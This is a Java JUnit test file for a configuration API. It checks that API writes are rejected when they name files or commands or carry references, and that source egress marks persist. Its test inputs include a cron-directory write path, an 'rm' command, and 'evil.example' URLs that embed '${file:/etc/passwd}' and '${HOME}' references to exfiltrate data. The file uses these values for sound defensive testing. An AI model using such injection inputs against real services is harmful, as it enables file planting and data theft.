package dev.sightline.app.configuration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sightline.config.Node;
import dev.sightline.config.Nodes;
import dev.sightline.config.Place;
import dev.sightline.config.Problems;
import dev.sightline.config.YamlReader;
import dev.sightline.http.ProblemException;
import dev.sightline.pipeline.ParameterSchema;
import dev.sightline.pipeline.ProcessorDescription;
import dev.sightline.processor.Parameter;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the API may not set: references, what names code or files, and where its own sources may lead. */
class ApiWritesTest {
    private final ApiWrites writes = new ApiWrites(List.of(
            new ProcessorDescription("record", "", ParameterSchema.of(Recorder.class)),
            new ProcessorDescription("text", "", Map.of("properties", Map.of("text", Map.of("type", "string"))))));

    record Recorder(
            @Parameter(value = "Where to.", byDefault = "out.mp4")
            Path file,

            @Parameter(value = "What to run.", byDefault = "", fileOnly = true)
            Optional<String> command,

            @Parameter("Further ones.") List<Inner> inner) {

        record Inner(
                @Parameter("The folder.") Optional<Path> folder,
                @Parameter("A number.") int size) {}
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[{'record': {'file': '/etc/cron.d/x'}}]",
                "[{'record': {'command': 'rm'}}]",
                "[{'record': {'inner': [{'size': 1, 'folder': '/'}]}}]",
                "['record:file=/etc/cron.d/x']",
                "'clock,record:command=rm'"
            })
    void checked_parameterThatNamesCodeOrFiles_isRefusedWithItsPlace(String process) {
        for (String key : StreamSettings.STEP_KEYS) {
            Node wanted = ofApi("{'source': 'publish:', '" + key + "': " + process + "}");

            assertThatThrownBy(() -> writes.checked(wanted, Optional.empty(), Optional.empty()))
                    .isInstanceOf(ProblemException.class)
                    .hasMessageContaining(key)
                    .hasMessageContaining("configuration file");
        }
    }

    @Test
    void checked_sameParameterOfTheFile_staysWhenSomethingElseIsSet() {
        Node file = ofFile("{source: 'pattern:', process: [record: {file: out.mp4}]}");
        Node wanted = StreamSettings.withSteps(
                file, List.of(StreamSettings.steps(file).get(0), ofApi("{'text': {'text': 'hello'}}")));

        assertThat(Nodes.plain(writes.checked(wanted, Optional.of(file), Optional.of(file))))
                .isEqualTo(Nodes.plain(wanted));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{'source': 'http://evil.example/${HOME}'}",
                "{'source': 'http://evil.example/${file:/etc/passwd}'}",
                "{'source': 'publish:', 'process': [{'text': {'text': 'a ${credential:x} b'}}]}",
                "{'source': 'publish:', 'process': 'text:text=$${HOME}'}",
                "{'source': 'publish:', 'socket-io': {'out': {'event': '${HOME'}}}"
            })
    void checked_reference_isRefused(String settings) {
        assertThatThrownBy(() -> writes.checked(ofApi(settings), Optional.empty(), Optional.empty()))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("references");
    }

    @Test
    void checked_sourceOfTheApi_isMarked_andTheMarkCannotBeTakenAway() {
        assertThat(egress(ofApi("{'source': 'http://cam.example/'}"), Optional.empty()))
                .isEqualTo("checked");
        assertThat(egress(ofApi("{'source': 'clip.mp4', 'egress': null}"), Optional.empty()))
                .isEqualTo("checked");
        assertThat(egress(ofApi("{'source': 'clip.mp4', 'egress': 'checked'}"), Optional.empty()))
                .isEqualTo("checked");
        assertThat(egress(ofApi("{'source': 'publish:'}"), Optional.empty())).isEmpty();
        assertThatThrownBy(() -> egress(ofApi("{'source': 'clip.mp4', 'egress': 'any'}"), Optional.empty()))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("where a source may lead");
    }

    @Test
    void checked_sourceOfTheFile_keepsItsRule_alsoWhenItIsSetBack() {
        Node free = ofFile("{source: 'http://127.0.0.1/'}");
        Node kept = ofFile("{source: 'http://127.0.0.1/', egress: checked}");

        assertThat(egress(free, Optional.of(free))).isEmpty();
        assertThat(egress(ofApi("{'source': 'http://127.0.0.1/'}"), Optional.of(free)))
                .isEmpty();
        assertThat(egress(ofApi("{'source': 'http://127.0.0.1:2/'}"), Optional.of(free)))
                .isEqualTo("checked");
        assertThat(egress(ofApi("{'source': 'http://127.0.0.1/'}"), Optional.of(kept)))
                .isEqualTo("checked");
        assertThatThrownBy(() -> egress(ofApi("{'source': 'http://127.0.0.1/', 'egress': 'any'}"), Optional.of(kept)))
                .isInstanceOf(ProblemException.class);
    }

    @Test
    void checked_markedSource_keepsTheMarkWhenSomethingElseIsSet() {
        Node before = writes.checked(ofApi("{'source': 'http://cam.example/'}"), Optional.empty(), Optional.empty());

        Node after = writes.checked(before, Optional.of(before), Optional.empty());

        assertThat(Nodes.plain(after)).isEqualTo(Nodes.plain(before));
    }

    /** Empty if it is not marked. */
    private String egress(Node wanted, Optional<Node> written) {
        Node node = writes.checked(wanted, written, written).below("egress");
        return node instanceof Node.Scalar scalar ? scalar.text() : "";
    }

    /** Apostrophes stand for quotation marks. */
    private static Node ofApi(String json) {
        Object plain = Nodes.plain(YamlReader.asWritten(json, "json", new Problems()));
        return Nodes.of(plain, Place.member(""));
    }

    private static Node ofFile(String yaml) {
        return YamlReader.asWritten(yaml, "sightline.yml", new Problems());
    }
}
